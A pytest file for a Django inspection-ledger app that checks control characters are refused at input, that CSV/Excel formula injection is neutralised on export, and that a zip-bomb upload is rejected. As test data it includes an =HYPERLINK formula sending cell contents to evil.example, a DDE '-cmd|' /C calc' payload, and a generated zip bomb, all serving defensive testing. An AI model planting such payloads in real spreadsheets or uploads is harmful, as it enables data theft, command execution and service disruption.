"""工作要点 ledger text safety (review findings I3d, I4): control characters are refused at input (forms and the
import) and every export cell goes through safe_cell — rows stored before the rule still export, and a formula
("=HYPERLINK(…)") is written as text, never run by the spreadsheet."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from gongkai.inspection import ledger
from gongkai.inspection.models import Task, TaskEvidence, TaskUnit, WorkPlan
from tests.inspection.test_ledger import setting  # noqa: F401  (fixture)

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def _plan_with_unit(org) -> tuple[WorkPlan, TaskUnit]:
    plan = WorkPlan.objects.create(year=2026, title="2026年要点")
    task = Task.objects.create(plan=plan, number="1", title="公开招生政策", deadline_text="长期坚持")
    return plan, TaskUnit.objects.create(task=task, org=org, lead=True)


@pytest.mark.django_db
def test_forms_refuse_control_characters(client, setting):  # noqa: F811
    office, a, _ = setting
    _plan, unit = _plan_with_unit(a.org)
    url = f"/staff/inspection/tasks/units/{unit.pk}/"
    client.force_login(a.drafter)
    response = client.post(url, {"action": "progress", "status": "in_progress", "progress": "已完成\x01部分"})
    assert response.status_code == 400 and "控制字符" in response.content.decode()
    response = client.post(url, {"action": "evidence", "note": "说明\x00"})
    assert response.status_code == 400 and "空字符" in response.content.decode()
    unit.refresh_from_db()
    assert unit.progress == "" and not TaskEvidence.objects.filter(unit=unit).exists()
    client.force_login(office)
    response = client.post(url, {"action": "review", "review": "partial", "note": "未落实\x07"})
    assert response.status_code == 400 and "控制字符" in response.content.decode()
    unit.refresh_from_db()
    assert unit.review == ""
    # A line break is text, not a control character.
    client.force_login(a.drafter)
    client.post(url, {"action": "progress", "status": "in_progress", "progress": "第一步\r\n第二步"})
    unit.refresh_from_db()
    assert "第二步" in unit.progress


def test_import_refuses_a_row_with_a_control_character():
    # What openpyxl returns for a real file holding "_x0002_" in its shared strings (Excel's escape).
    rows = [
        ("序号", "重点任务", "牵头单位", "完成时限"),
        (1, "公开义务教育招生政策", "示范市教育局", "长期坚持"),
        (2, "公开低保\x02标准", "示范市民政局", "长期坚持"),
        (3, "公开救助信息", "示范市民政局\x00", "长期坚持"),
    ]
    tasks, errors = ledger.read_rows(rows, 2026)
    assert [t.title for t in tasks] == ["公开义务教育招生政策"]
    assert errors == [
        "第 3 行：单元格中含有不允许的控制字符，请删除后再提交",
        "第 4 行：单元格中含有不允许的空字符，请删除后再提交",
    ]


@pytest.mark.django_db
def test_export_with_stored_control_characters_and_formulas(client, setting):  # noqa: F811
    office, a, _ = setting
    plan, unit = _plan_with_unit(a.org)
    # Rows stored before the input rule (or written around it): the export must still open.
    Task.objects.filter(pk=unit.task_id).update(
        number="+1+1", category="-cmd|' /C calc'!A0", title=FORMULA + "\x01"
    )
    TaskUnit.objects.filter(pk=unit.pk).update(progress="@SUM(1,2)\x0b", review="partial", review_note="=1+1")
    TaskEvidence.objects.create(unit=unit, url="", note='=HYPERLINK("http://x")\x1f')
    client.force_login(office)
    response = client.get(f"/staff/inspection/tasks/plans/{plan.pk}/export/")
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.content))
    ws = wb.active
    row = [cell for cell in ws[3]]
    values = [cell.value for cell in row]
    assert values[0] == "'+1+1" and values[1] == "'-cmd|' /C calc'!A0"
    assert values[2] == "'" + FORMULA
    assert values[7] == "'@SUM(1,2)" and values[8] == '\'=HYPERLINK("http://x")' and values[11] == "'=1+1"
    assert all(cell.data_type != "f" for cell in row)


@pytest.mark.django_db
def test_import_refuses_a_zip_bomb_before_inflating_it(client, setting):  # noqa: F811
    """Review finding I7: the member sizes are checked before openpyxl reads the shared strings."""
    office, *_ = setting
    client.force_login(office)
    client.post("/staff/inspection/tasks/", {"year": "2026", "title": "要点"})
    plan = WorkPlan.objects.get()
    wb = Workbook()
    wb.active.append(("序号", "重点任务", "牵头单位"))
    out = io.BytesIO()
    wb.save(out)
    bomb = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(out.getvalue())) as src,
        zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            if info.filename != "xl/sharedStrings.xml":
                dst.writestr(info, src.read(info.filename))
        dst.writestr("xl/sharedStrings.xml", b"<sst>" + b" " * (8 * 1024 * 1024) + b"</sst>")
    data = bomb.getvalue()
    assert len(data) < 100_000  # 8 MiB inflated from a few KiB
    response = client.post(f"/staff/inspection/tasks/plans/{plan.pk}/", {"file": io.BytesIO(data)})
    assert response.status_code == 400 and "文件解压后过大" in response.content.decode()
    assert not Task.objects.filter(plan=plan).exists()
